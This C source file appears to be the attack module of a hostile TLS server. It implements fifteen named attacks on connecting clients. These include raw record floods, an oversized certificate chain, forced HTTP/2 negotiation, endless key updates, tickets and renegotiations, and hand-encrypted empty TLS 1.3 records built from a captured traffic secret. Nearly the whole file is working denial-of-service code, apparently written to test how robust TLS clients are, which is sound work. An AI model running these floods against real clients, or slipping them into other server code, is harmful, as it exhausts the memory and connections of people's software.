/* SPDX-License-Identifier: MIT */
#include "attacks.h"

#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define FLOOD_BYTES 16384
#define CHAIN_CERTIFICATES 10000

/* ---- While the handshake lasts: records as they are ---- */

static void flood(int fd, const char *record, size_t size)
{
	static char bytes[FLOOD_BYTES];
	size_t count = sizeof(bytes) / size;
	char hello[4096];

	for (size_t n = 0; n < count; n++)
		memcpy(bytes + n * size, record, size);
	if (read(fd, hello, sizeof(hello)) <= 0)
		return;
	while (write(fd, bytes, count * size) > 0)
		;
}

static void flood_hello_requests(int fd)
{
	flood(fd, "\x16\x03\x03\x00\x04\x00\x00\x00\x00", 9);
}

static void flood_change_cipher_specs(int fd)
{
	flood(fd, "\x14\x03\x03\x00\x01\x01", 6);
}

static void flood_alerts(int fd)
{
	flood(fd, "\x15\x03\x03\x00\x02\x01\x5a", 7);
}

static void flood_empty_handshake(int fd)
{
	flood(fd, "\x16\x03\x03\x00\x00", 5);
}

/* The same small certificate again and again. */
static void lengthen_chain(SSL_CTX *tls)
{
	X509 *certificate = SSL_CTX_get0_certificate(tls);

	for (int n = 0; n < CHAIN_CERTIFICATES; n++)
		if (SSL_CTX_add1_chain_cert(tls, certificate) != 1)
			return;
}

/* A protocol that the client may not have offered. */
static int choose_http2(SSL *ssl, const unsigned char **ret_name, unsigned char *ret_size,
			const unsigned char *offered, unsigned offered_size, void *context)
{
	(void)ssl;
	(void)offered;
	(void)offered_size;
	(void)context;
	*ret_name = (const unsigned char *)"h2";
	*ret_size = 2;
	return SSL_TLSEXT_ERR_OK;
}

static void force_http2(SSL_CTX *tls)
{
	SSL_CTX_set_alpn_select_cb(tls, choose_http2, NULL);
}

/* ---- Instead of an answer ---- */

static void flood_key_updates(SSL *ssl)
{
	while (SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) == 1 && SSL_do_handshake(ssl) == 1)
		;
}

/* The client has to answer each. Nobody reads that, so in the end its buffers are full. */
static void flood_key_updates_asked(SSL *ssl)
{
	while (SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) == 1 && SSL_do_handshake(ssl) == 1)
		;
}

static void flood_tickets(SSL *ssl)
{
	while (SSL_new_session_ticket(ssl) == 1 && SSL_do_handshake(ssl) == 1)
		;
}

static void flood_renegotiations(SSL *ssl)
{
	while (SSL_renegotiate(ssl) == 1 && SSL_do_handshake(ssl) == 1)
		;
}

static void flood_small_records(SSL *ssl)
{
	static const char head[] = "HTTP/1.1 200 OK\r\nContent-Length: 50000\r\n\r\n";

	if (SSL_write(ssl, head, sizeof(head) - 1) <= 0)
		return;
	for (int n = 0; n < 49999 && SSL_write(ssl, " ", 1) > 0; n++)
		;
	(void)pause();
}

/* ---- Records without content: OpenSSL makes none, so they are encrypted here ---- */

static unsigned char traffic_secret[SHA256_DIGEST_LENGTH];

static void keep_secret(const SSL *ssl, const char *line)
{
	const char *hex = strrchr(line, ' ');

	(void)ssl;
	if (strncmp(line, "SERVER_TRAFFIC_SECRET_0 ", 24) != 0)
		return;
	for (size_t n = 0; n < sizeof(traffic_secret); n++)
		sscanf(hex + 1 + 2 * n, "%2hhx", &traffic_secret[n]);
}

static void keep_secrets(SSL_CTX *tls)
{
	SSL_CTX_set_ciphersuites(tls, "TLS_AES_128_GCM_SHA256");
	SSL_CTX_set_num_tickets(tls, 0); /* they would count as records */
	SSL_CTX_set_keylog_callback(tls, keep_secret);
}

static bool derive(char *label, unsigned char *ret_key, size_t size)
{
	static char digest[] = "SHA256", prefix[] = "tls13 ";
	int mode = EVP_KDF_HKDF_MODE_EXPAND_ONLY;
	const OSSL_PARAM params[] = {
		OSSL_PARAM_construct_int(OSSL_KDF_PARAM_MODE, &mode),
		OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST, digest, 0),
		OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_KEY, traffic_secret,
						  sizeof(traffic_secret)),
		OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_PREFIX, prefix, 6),
		OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_LABEL, label, strlen(label)),
		OSSL_PARAM_construct_end(),
	};
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS13-KDF", NULL);
	EVP_KDF_CTX *context = EVP_KDF_CTX_new(kdf);
	bool is_derived = EVP_KDF_derive(context, ret_key, size, params) == 1;

	EVP_KDF_CTX_free(context);
	EVP_KDF_free(kdf);
	return is_derived;
}

/* One record of application data (RFC 8446, 5.2) with SIZE bytes, 1 at most, of content. */
static size_t seal(EVP_CIPHER_CTX *cipher, const unsigned char *iv, uint64_t number, size_t size,
		   unsigned char *record)
{
	unsigned char nonce[12];
	unsigned char inner[2] = {' ', SSL3_RT_APPLICATION_DATA};
	int length = 0;

	memcpy(nonce, iv, sizeof(nonce));
	for (int n = 0; n < 8; n++)
		nonce[11 - n] ^= (unsigned char)(number >> (8 * n));
	memcpy(record, "\x17\x03\x03\x00\x00", 5);
	record[4] = (unsigned char)(size + 1 + 16);
	EVP_EncryptInit_ex(cipher, NULL, NULL, NULL, nonce);
	EVP_EncryptUpdate(cipher, NULL, &length, record, 5);
	EVP_EncryptUpdate(cipher, record + 5, &length, inner + 1 - size, (int)size + 1);
	EVP_EncryptFinal_ex(cipher, record + 5 + length, &length);
	EVP_CIPHER_CTX_ctrl(cipher, EVP_CTRL_AEAD_GET_TAG, 16, record + 5 + size + 1);
	return 5 + size + 1 + 16;
}

/* Every PERIOD-th record has a byte of content; 0: none has. OpenSSL refuses 33 empty ones in a
 * row.
 */
static void flood_records(SSL *ssl, uint64_t period)
{
	unsigned char bytes[FLOOD_BYTES];
	static char key_label[] = "key", iv_label[] = "iv";
	unsigned char key[16], iv[12];
	EVP_CIPHER_CTX *cipher = EVP_CIPHER_CTX_new();
	uint64_t number = 0;
	ssize_t written = 1;

	if (derive(key_label, key, sizeof(key)) && derive(iv_label, iv, sizeof(iv)))
		EVP_EncryptInit_ex(cipher, EVP_aes_128_gcm(), NULL, key, NULL);
	while (written > 0) {
		size_t size = 0;

		for (; size + 32 < sizeof(bytes); number++)
			size += seal(cipher, iv, number, period && number % period == 0,
				     bytes + size);
		written = write(SSL_get_fd(ssl), bytes, size);
	}
	EVP_CIPHER_CTX_free(cipher);
}

static void flood_empty_records(SSL *ssl)
{
	flood_records(ssl, 0);
}

static void flood_mostly_empty_records(SSL *ssl)
{
	flood_records(ssl, 30);
}

/* ---- The table ---- */

static const struct attack attacks[] = {
	{.name = "none"},
	{.name = "hello-requests", .raw = flood_hello_requests},
	{.name = "change-cipher-specs", .raw = flood_change_cipher_specs},
	{.name = "alerts", .raw = flood_alerts},
	{.name = "empty-handshake", .raw = flood_empty_handshake},
	{.name = "chain", .version = TLS1_3_VERSION, .prepare = lengthen_chain},
	{.name = "chain-1.2", .version = TLS1_2_VERSION, .prepare = lengthen_chain},
	{.name = "forced-h2", .prepare = force_http2},
	{.name = "key-updates", .version = TLS1_3_VERSION, .act = flood_key_updates},
	{.name = "key-updates-asked", .version = TLS1_3_VERSION, .act = flood_key_updates_asked},
	{.name = "tickets", .version = TLS1_3_VERSION, .act = flood_tickets},
	{.name = "renegotiations", .version = TLS1_2_VERSION, .act = flood_renegotiations},
	{.name = "small-records", .act = flood_small_records},
	{.name = "empty-records",
	 .version = TLS1_3_VERSION,
	 .prepare = keep_secrets,
	 .act = flood_empty_records},
	{.name = "mostly-empty-records",
	 .version = TLS1_3_VERSION,
	 .prepare = keep_secrets,
	 .act = flood_mostly_empty_records},
};

const struct attack *attack_find(const char *name)
{
	for (size_t n = 0; n < sizeof(attacks) / sizeof(attacks[0]); n++)
		if (strcmp(attacks[n].name, name) == 0)
			return &attacks[n];
	return NULL;
}

void attack_print_names(void)
{
	for (size_t n = 0; n < sizeof(attacks) / sizeof(attacks[0]); n++)
		puts(attacks[n].name);
}
